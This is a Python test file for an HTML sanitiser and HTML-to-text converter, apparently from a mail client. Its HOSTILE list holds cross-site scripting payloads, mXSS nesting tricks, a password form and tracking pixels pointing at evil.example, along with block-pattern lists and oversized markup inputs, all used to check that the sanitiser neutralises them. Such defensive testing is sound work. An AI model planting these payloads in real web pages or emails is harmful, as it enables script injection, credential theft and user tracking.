"""HTML from outside: harmless, and readable as text."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from battito.kit.html import render, sanitise, to_text

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&#58;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=http://evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import url(http://evil.example/x.css)</style>",
    "<p style='background:url(http://evil.example/t.gif)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='color:url(http://evil.example)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%'>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<object data=http://evil.example></object><embed src=http://evil.example>",
    "<img src='http://evil.example/pixel.gif'>",
    "<img srcset='http://evil.example/pixel.gif 1x'>",
    "<table background='http://evil.example/t.gif'><tr><td background='http://evil.example/t.gif'>x</td></tr></table>",
    "<video poster=http://evil.example/t.gif></video><audio src=http://evil.example>",
    "<x-tag onclick=alert(1)>x</x-tag>",
    "<a href='//evil.example' target=_top ping='http://evil.example'>x</a>",
]
FETCHED = (
    ' src="http',
    "srcset",
    "url(",
    "background=",
    "poster",
    "ping=",
    "@import",
    "<link",
    "<base",
    "<meta",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
)


@pytest.mark.parametrize("html", HOSTILE)
def test_nothing_runs_and_nothing_is_fetched(html: str) -> None:
    clean = sanitise(html).lower()
    assert not any(
        mark in clean
        for mark in (
            "<script",
            "onerror",
            "onload",
            "onclick",
            "javascript:",
            "expression(",
            "position:",
            "<svg",
            "<style",
            "data:text",
        )
    )
    assert not any(mark in clean for mark in FETCHED)


@given(
    st.lists(
        st.sampled_from(
            [*HOSTILE, "<p>", "</p>", "<b>", "<table>", "</table>", "'", '"', "<!--", "-->", "testo", "<pre>", "&lt;"]
        )
        | st.text(max_size=20),
        max_size=12,
    )
)
@settings(max_examples=300, deadline=None)
def test_no_mixture_runs_either(pieces: list[str]) -> None:
    clean = sanitise("".join(pieces))
    again = sanitise(clean)
    assert "<script" not in clean.lower()
    assert ' src="http' not in clean
    assert "<script" not in again.lower()
    to_text("".join(pieces))


def test_pictures_from_the_network_wait_and_own_ones_stay() -> None:
    assert sanitise(
        '<img src="https://a.example/x.png" alt="x"><img src="cid:1@x"><img src="data:image/png;base64,AAAA">'
    ) == (
        '<img data-remote-src="https://a.example/x.png" alt="x"><img src="cid:1@x"><img src="data:image/png;base64,AAAA">'
    )


def test_text_keeps_what_a_reader_sees() -> None:
    html = """<html><head><title>no</title><style>p{}</style></head><body><p>Gentile <b>cliente</b>,</p><p>ecco le voci:</p>
      <ul><li>luce</li><li>gas<ol><li>uno</li></ol></li></ul><table><tr><td>Totale</td><td>30&nbsp;€</td></tr></table>
      <p class=MsoNormal>a</p><p class=MsoNormal>b</p><div>vedi <a href="https://lumera.example/x">qui</a> o <a href="http://lumera.example">lumera.example</a></div>
      <blockquote><div>citato</div><blockquote>due volte</blockquote></blockquote><div style="display:none">nascosto</div><hr>fine</body></html>"""
    assert to_text(html) == (
        "Gentile cliente,\n\necco le voci:\n\n- luce\n- gas\n  1. uno\n\nTotale 30 €\na\nb\nvedi qui <https://lumera.example/x> o lumera.example\n"
        "> citato\n>> due volte\n________________________________\nfine"
    )


def test_places_of_known_elements() -> None:
    rendered = render(
        "<p>mio</p><div class=q><p>suo</p></div><p>fine</p>", lambda tag, a: "quote" if a.get("class") == "q" else None
    )
    (place,) = rendered.places
    assert rendered.text[place.start : place.end].strip() == "suo"


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 60_000,
        "<" * 200_000,
        "<a " * 60_000,
        "<p>" * 100_000,
        "<table><tr><td>" * 15_000,
        "<!--" * 60_000,
        "<b><i>" * 20_000,
        "<div style='" + "a:b;" * 60_000,
    ],
)
def test_endless_mark_up_is_read_in_time(html: str) -> None:
    started = time.process_time()
    sanitise(html)
    to_text(html)
    assert time.process_time() - started < 5


PICTURE = '<table><tr><td><img src="https://a.example/x.png?a=1&b=2" alt="x" height="9"></td></tr></table>'


@pytest.mark.parametrize("html", [*HOSTILE, PICTURE, "<p>a &lt;b&gt;</p>", '<img src="cid:1@x">'])
def test_what_was_made_harmless_stays_as_it_is(html: str) -> None:
    once = sanitise(html)
    assert sanitise(once) == once


def test_a_picture_from_the_network_survives_being_made_harmless_twice() -> None:
    assert 'data-remote-src="https://a.example/x.png?a=1&amp;b=2"' in sanitise(sanitise(PICTURE))
